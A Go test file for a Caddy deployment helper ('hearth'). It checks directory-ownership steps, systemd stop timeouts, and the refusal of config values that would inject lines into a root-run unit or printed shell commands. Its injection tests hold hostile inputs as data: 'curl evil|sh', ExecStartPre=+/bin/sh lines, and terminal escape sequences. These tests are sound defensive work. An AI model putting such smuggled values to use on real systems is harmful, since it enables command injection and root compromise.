package hearth

import (
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestOwnershipSteps: the unit's comments give each directory to the
// account that writes it (a block's own `user`, or the apps' account), and
// none to a directory an app's account must not own: whoever owns it can
// replace what others run from it (a home's .bashrc, /etc).
func TestOwnershipSteps(t *testing.T) {
	d := &deployment{
		dirs:      []string{"/srv/shop", "/srv/blog", "/home/me", "/etc/app", "/srv"},
		extraDirs: []string{"/srv/shop/backups", "/var/lib/caddy/x", "/srv/blog/jobs", "/data/backups/shop", "/var/backups"},
		owners:    map[string]string{"/srv/blog": "blog", "/srv/blog/jobs": ""},
	}
	for _, dir := range append(d.dirs, d.extraDirs...) {
		d.own(dir, "")
	}
	out := d.ownershipSteps(unitOptions{user: "caddy", appsUser: "hearth-apps", dataDir: "/var/lib/caddy"})
	for _, want := range []string{
		// nested directories of one account: given together; of two: the
		// outer one is not (chown -R would take the inner one too)
		"Not to be given to an app's account: /srv/blog (it holds /srv/blog/jobs, which another account writes)",
		"#   sudo chown -R hearth-apps:caddy /srv/shop   (or only",
		// install -d would follow a link an app's account put where a
		// directory inside its own should be: made by the account instead
		"#   sudo -u hearth-apps mkdir -p -m 0750 /srv/shop/backups   (inside /srv/shop",
		"#   sudo -u hearth-apps mkdir -p -m 0750 /srv/blog/jobs   (inside /srv/blog",
		"#   sudo install -d -o hearth-apps -g caddy -m 0750 /data/backups/shop\n",
		"Not to be given to an app's account: /var/backups (a system directory)",
		"Not to be given to an app's account: /home/me (a home directory)",
		"Not to be given to an app's account: /etc/app (a system directory)",
		"Not to be given to an app's account: /srv (a top-level directory)",
		"Not to be given to an app's account: /var/lib/caddy/x (Caddy's data directory, or one holding it)",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in:\n%s", want, out)
		}
	}
	if strings.Contains(out, "chown -R hearth-apps:caddy /home/me") || strings.Contains(out, "/etc/app\n#   sudo") {
		t.Errorf("a home or system directory is given away:\n%s", out)
	}
}

// TestRiskyToGive: the steps never hand an app's account a directory of
// the system's (dpkg's, whose scripts run as root, or the logs'), a
// home's hidden ones (.ssh), or one another account owns today (a
// service's data, a user's files); a directory root, the operator or the
// account itself owns is given.
func TestRiskyToGive(t *testing.T) {
	d := &deployment{owners: map[string]string{}}
	base := t.TempDir()
	owned := func(name string, uid int) string {
		dir := filepath.Join(base, name)
		if err := os.Mkdir(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(dir, uid, uid); err != nil {
			t.Skipf("as root only: %v", err)
		}
		return dir
	}
	for _, tc := range []struct{ dir, account, want string }{
		{"/var/lib/dpkg", "hearth-apps", "a system directory"},
		{"/var/lib/dpkg/info", "hearth-apps", "a system directory"},
		{"/var/log/shop", "hearth-apps", "a system directory"},
		{"/home/alice/.ssh", "hearth-apps", "a hidden directory of a home"},
		{"/home/alice/site/.config", "hearth-apps", "a hidden directory of a home"},
		{owned("nobodys", 65534), "hearth-apps", "it belongs to nobody (uid 65534), a system account"},
		{owned("daemons", 1), "hearth-apps", "it belongs to daemon (uid 1), a system account"},
		{owned("a-persons", 1500), "hearth-apps", ""}, // the operator's project, from a root login without sudo
		{owned("roots", 0), "hearth-apps", ""},
		{owned("games", 5), "games", ""},
		{filepath.Join(base, "not-yet"), "hearth-apps", ""},
	} {
		if got := d.riskyToGive(tc.dir, "/var/lib/caddy", tc.account); tc.want == "" && got != "" || !strings.Contains(got, tc.want) {
			t.Errorf("riskyToGive(%s, to %s) = %q, want %q", tc.dir, tc.account, got, tc.want)
		}
	}
}

// A block's own `user` gets its directories.
func TestOwnershipStepsPerAccount(t *testing.T) {
	d := &deployment{dirs: []string{"/srv/blog", "/srv/shop"}, owners: map[string]string{}}
	d.own("/srv/blog", "blog")
	d.own("/srv/shop", "")
	out := d.ownershipSteps(unitOptions{user: "caddy", appsUser: "hearth-apps", dataDir: "/var/lib/caddy"})
	if !strings.Contains(out, "#   sudo chown -R blog:caddy /srv/blog   (or only") || !strings.Contains(out, "#   sudo chown -R hearth-apps:caddy /srv/shop   (or only") {
		t.Errorf("per account:\n%s", out)
	}
}

// A backup's copies are written by Caddy's account, an app's backup's in a
// directory relative to the app's when `to` is relative: inside the app's
// own directory they cannot be (its account could replace them), which
// the steps say.
func TestBackupDirectoriesInTheSteps(t *testing.T) {
	config := filepath.Join(t.TempDir(), "caddy.json")
	if err := os.WriteFile(config, []byte(`{"apps": {
		"hearth": {"backups": [
			{"name": "site", "path": "/srv/site/db.sqlite3", "to": "/data/backups/site"},
			{"name": "shop", "database": "default", "to": "backups"},
		{"name": "shop2", "database": "other", "app": "shop", "to": "../shop-backups"},
		{"name": "worker", "path": "/srv/worker/db.sqlite3", "to": "/srv/worker/backups"}
		],
		"services": [
			{"name": "worker", "command": ["celery"], "dir": "/srv/worker"}
		]},
		"http": {"servers": {"s": {"listen": [":8080"], "routes": [
			{"handle": [{"handler": "wsgi", "app": "shop.wsgi:application", "name": "shop", "dir": "/srv/shop", "user": "shopkeeper"}]}
		]}}}
	}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	d, err := loadDeployment(config, "")
	if err != nil {
		t.Fatal(err)
	}
	out := d.ownershipSteps(unitOptions{user: "caddy", appsUser: "hearth-apps", dataDir: "/var/lib/caddy"})
	for _, want := range []string{
		"#   sudo chown -R shopkeeper:caddy /srv/shop",
		"# Change the config: backup shop: its copies cannot go to /srv/shop/backups, inside /srv/shop, which an app's, a service's or a job's account writes",
		"# Change the config: backup worker: its copies cannot go to /srv/worker/backups, inside /srv/worker",
		"#   sudo install -d -o caddy -g caddy -m 0700 /data/backups/site /srv/shop-backups\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in:\n%s", want, out)
		}
	}
	if len(d.relativeDirs) != 0 {
		t.Errorf("a relative `to` of an app's backup taken as relative to Caddy's directory: %v", d.relativeDirs)
	}
}

// TestUnitStopTimeout: the unit's TimeoutStopSec covers the apps,
// services and process upstreams, which stop one after the other at
// Caddy's exit, each within its stop_timeout (30s when unset; an app's
// workers 10s more), with 30s for the rest, and is never under 60s: systemd must not kill a Celery worker finishing its
// tasks because three services were declared.
func TestUnitStopTimeout(t *testing.T) {
	service := func(name, stop string) string {
		if stop != "" {
			stop = `, "stop_timeout": "` + stop + `"`
		}
		return `{"name": "` + name + `", "command": ["` + name + `"]` + stop + `}`
	}
	config := func(services []string, routes string) string {
		return `{"apps": {"hearth": {"services": [` + strings.Join(services, ",") + `]},
			"http": {"servers": {"s": {"listen": [":8080"], "routes": [` + routes + `]}}}}}`
	}
	node := `{"handle": [{"handler": "reverse_proxy", "dynamic_upstreams": {"source": "process", "command": ["node", "server.js"], "dir": "/srv/node"}}]}`
	for _, tc := range []struct {
		name, json, want string
	}{
		{"nothing to stop", config(nil, ""), "TimeoutStopSec=60s\n"},
		{"one service", config([]string{service("redis", "")}, ""), "TimeoutStopSec=60s\n"},
		{"services and a process upstream", config([]string{service("redis", "5s"), service("celery", "2m")}, node),
			"TimeoutStopSec=185s\n"}, // 30 + 5 + 120 + 30
		{"a fraction of a second", config([]string{service("a", "40500ms")}, ""), "TimeoutStopSec=71s\n"},
		{"two apps, one of them under two matchers", config(nil,
			`{"handle": [{"handler": "wsgi", "app": "shop.wsgi:application", "name": "shop", "dir": "/srv/shop"}]},
			{"handle": [{"handler": "wsgi", "app": "shop.wsgi:application", "name": "shop", "dir": "/srv/shop"}]},
			{"handle": [{"handler": "asgi", "app": "chat:app", "name": "chat", "dir": "/srv/chat", "stop_timeout": "1m"}]}`),
			"TimeoutStopSec=140s\n"}, // 30 + (30 + 10) + (60 + 10)
		{"a negative process stop_timeout: its default, 30s", config([]string{service("a", "5m")},
			strings.Replace(node, `"dir"`, `"stop_timeout": "-10m", "dir"`, 1)), "TimeoutStopSec=360s\n"}, // 30 + 300 + 30
	} {
		t.Run(tc.name, func(t *testing.T) {
			config, d := deploymentOf(t, tc.json)
			var out strings.Builder
			if err := writeUnit(&out, d, unitOptions{config: config, user: "caddy", appsUser: "hearth-apps", dataDir: "/var/lib/caddy", binary: "/usr/bin/caddy", envFile: "/etc/caddy/env"}); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(out.String(), "\n"+tc.want) {
				t.Errorf("want %q in:\n%s", tc.want, out.String())
			}
		})
	}
}

// TestDeploymentRefusesWhatItCannotPrint: names and accounts from the
// config go into the unit and into the shell lines printed with it as they
// are. A config may be the work of an account other than the operator's
// (an app's, for a config kept in its project): a name that starts a line
// of the unit's (ExecStartPre=+, run as root outside the sandbox) or an
// account that ends a command is refused by `systemd`, saying what to
// write; `ports`, which prints neither, takes the config. A process
// upstream named after its program (which Caddy runs whatever its name)
// is shown in the unit with its other characters as '_'.
func TestDeploymentRefusesWhatItCannotPrint(t *testing.T) {
	wsgi := func(fields string) string {
		return `{"apps": {"http": {"servers": {"s": {"listen": [":8080"], "routes": [
			{"handle": [{"handler": "wsgi", "app": "shop.wsgi:application", "dir": "/srv/shop"` + fields + `}]}]}}}}}`
	}
	process := func(fields string) string {
		return `{"apps": {"http": {"servers": {"s": {"listen": [":8080"], "routes": [
			{"handle": [{"handler": "reverse_proxy", "dynamic_upstreams": {"source": "process", "command": ["/opt/x\n[Install]\nWantedBy=evil"], "dir": "/srv/node"` + fields + `}}]}]}}}}}`
	}
	for _, tc := range []struct{ name, json, want string }{
		{"a name with a unit line", wsgi(`, "name": "x\n[Service]\nExecStartPre=+/bin/sh -c 'id>/tmp/p'\n#"`), "app name"},
		{"a name from the module", strings.Replace(wsgi(""), "shop.wsgi:application", `sh\nExecStartPre=+/bin/id\n#op.wsgi:application`, 1),
			"give the app one with `name <name>`"},
		{"a process upstream's own name", process(`, "name": "n\nExecStartPre=+/bin/id"`), "process name"},
		{"an app's user", wsgi(`, "name": "shop", "user": "www;curl evil|sh;#"`), `app shop: user "www;curl evil|sh;#"`},
		{"a service's user", `{"apps": {"hearth": {"services": [{"name": "redis", "command": ["redis-server"], "dir": "/srv/redis", "user": "r\nx"}]}}}`,
			`service "redis": user "r\nx"`},
		{"a job's user", `{"apps": {"hearth": {"jobs": [{"name": "clean", "command": ["true"], "schedule": "@daily", "user": "-o"}]}}}`,
			`job "clean": user "-o"`},
		{"a backup's name", `{"apps": {"hearth": {"backups": [{"name": "x\n[Service]\nExecStartPre=+/bin/sh -c 'id>/tmp/p'\n#", "path": "/srv/shop/db.sqlite3", "to": "/srv/shop/backups"}]}, ` + wsgi(`, "name": "shop"`)[len(`{"apps": {`):],
			"backup name"},
		{"a misplaced backup's to", `{"apps": {"hearth": {"backups": [{"name": "db", "path": "/srv/shop/db.sqlite3", "to": "/srv/shop/b\n[Service]\nExecStartPre=+/bin/id\n#"}]}, ` + wsgi(`, "name": "shop"`)[len(`{"apps": {`):],
			"backup db: `to`"},
		{"a service's name", `{"apps": {"hearth": {"services": [{"name": "r\nExecStartPre=+/bin/id", "command": ["redis-server"], "dir": "/srv/redis"}]}}}`, "service name"},
		{"a job's name", `{"apps": {"hearth": {"jobs": [{"name": "c\nExecStartPre=+/bin/id", "command": ["true"], "schedule": "@daily"}]}}}`, "job name"},
		{"a process upstream named after its program", process(""), ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			config, d := deploymentOf(t, tc.json) // (as ports reads it too)
			if err := printPorts(io.Discard, d, "192.168.1.5", nil); err != nil {
				t.Errorf("ports: %v", err)
			}
			var out strings.Builder
			err := writeUnit(&out, d, unitOptions{config: config, user: "caddy", appsUser: "hearth-apps", dataDir: "/var/lib/caddy", binary: "/usr/bin/caddy", envFile: "/etc/caddy/env"})
			if tc.want == "" {
				if err != nil || strings.Count(out.String(), "\n[Install]\n") != 1 || !strings.Contains(out.String(), "Description=Caddy with Hearth (x__Install__WantedBy_evil)\n") {
					t.Errorf("writeUnit: %v; the unit:\n%s", err, out.String())
				}
				return
			}
			if err == nil {
				t.Fatalf("accepted; the unit:\n%s", out.String())
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q does not say %q", err, tc.want)
			}
		})
	}
}

// TestUnitKeepsConfigTextInItsComments: whatever reaches the unit's
// comments from the config (here a line the checks where the config is
// read would have refused) is refused there rather than written as a line
// of its own, which systemd would run as root.
func TestUnitKeepsConfigTextInItsComments(t *testing.T) {
	for _, misplaced := range []string{"x\n[Service]\nExecStartPre=+/bin/id", "x\rExecStartPre=+/bin/id", "x\x1b[2J",
		"x\n[Unit]\n[Service]\nExecStartPre=+/bin/id"} { // (a [Unit] of its own does not end the comments)
		d := &deployment{owners: map[string]string{}, dirs: []string{"/srv/shop"}, misplaced: []string{misplaced}}
		var out strings.Builder
		err := writeUnit(&out, d, unitOptions{config: "/etc/caddy/Caddyfile", user: "caddy", appsUser: "hearth-apps", dataDir: "/var/lib/caddy", binary: "/usr/bin/caddy", envFile: "/etc/caddy/env"})
		if err == nil || out.Len() != 0 {
			t.Errorf("%q: accepted (%v); the unit:\n%s", misplaced, err, out.String())
		}
	}
	// a value that goes into one line of the unit
	d := &deployment{owners: map[string]string{}, dirs: []string{"/srv/shop"}}
	var out strings.Builder
	if err := writeUnit(&out, d, unitOptions{config: "/etc/caddy/Caddyfile", user: "caddy", appsUser: "apps\nExecStartPre=+/bin/id", dataDir: "/var/lib/caddy", binary: "/usr/bin/caddy", envFile: "/etc/caddy/env"}); err == nil || out.Len() != 0 {
		t.Errorf("an account with a line break: accepted (%v); the unit:\n%s", err, out.String())
	}
	d = &deployment{owners: map[string]string{}, dirs: []string{"/srv/shop"}, misplaced: []string{"backup db: its copies cannot go to /srv/shop/b"}}
	if err := writeUnit(io.Discard, d, unitOptions{config: "/etc/caddy/Caddyfile", user: "caddy", appsUser: "hearth-apps", dataDir: "/var/lib/caddy", binary: "/usr/bin/caddy", envFile: "/etc/caddy/env"}); err != nil {
		t.Errorf("a plain line refused: %v", err)
	}
}

// TestPortsPrintsHostsOnTheirLine: a site's host name comes from the
// config; in the output of `caddy hearth ports` (read, and pasted from,
// maybe as root) it can neither send an escape sequence to the terminal
// nor start a line that passes for a command.
func TestPortsPrintsHostsOnTheirLine(t *testing.T) {
	host := "a.example\n  sudo ufw allow 22/tcp\x1b]0;pwned\x07"
	d := &deployment{
		ports: []sitePort{{port: 8443, https: true, siteName: []string{host}}, {host: "127.0.0.1\n  sudo rm", port: 9000}},
		certs: []siteChallenge{{host: host, port: 8443, how: "TLS-ALPN-01\x1b[2J"}},
	}
	var out strings.Builder
	if err := printPorts(&out, d, "192.168.1.5", nil); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(out.String(), "\x1b\x07") {
		t.Errorf("an escape sequence reached the output:\n%q", out.String())
	}
	for _, line := range strings.Split(out.String(), "\n") {
		if strings.HasPrefix(line, "  sudo ufw allow 22") || strings.HasPrefix(line, "  sudo rm") {
			t.Errorf("a host name made a line of its own: %q in\n%s", line, out.String())
		}
	}
	if !strings.Contains(out.String(), "sudo ufw allow 8443/tcp") {
		t.Errorf("the port's own rule is missing:\n%s", out.String())
	}
}

// deploymentOf writes a JSON config and reads it as the deployment
// commands do.
func deploymentOf(t *testing.T, json string) (string, *deployment) {
	t.Helper()
	config := filepath.Join(t.TempDir(), "caddy.json")
	if err := os.WriteFile(config, []byte(json), 0o600); err != nil {
		t.Fatal(err)
	}
	d, err := loadDeployment(config, "")
	if err != nil {
		t.Fatalf("loadDeployment: %v", err)
	}
	return config, d
}

// TestUnitRefusesImportsFromTheEnvironment: the unit's Caddy takes its
// environment from its EnvironmentFile, not from the shell that runs
// `caddy hearth systemd`, so an import path made of environment variables
// cannot be checked against the apps' directories: `systemd` refuses it,
// `ports` takes it.
func TestUnitRefusesImportsFromTheEnvironment(t *testing.T) {
	dir := t.TempDir()
	config := filepath.Join(dir, "Caddyfile")
	if err := os.WriteFile(config, []byte("import {$HEARTH_TEST_UNSET:"+dir+"/sites}/*\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	d, err := loadDeployment(config, "caddyfile")
	if err != nil {
		t.Fatalf("loadDeployment (as ports reads it): %v", err)
	}
	err = writeUnit(io.Discard, d, unitOptions{config: config, user: "caddy", appsUser: "hearth-apps", dataDir: "/var/lib/caddy", binary: "/usr/bin/caddy", envFile: "/etc/caddy/env"})
	if err == nil || !strings.Contains(err.Error(), "a path made of environment variables") {
		t.Errorf("writeUnit: %v, want the import refused", err)
	}
}
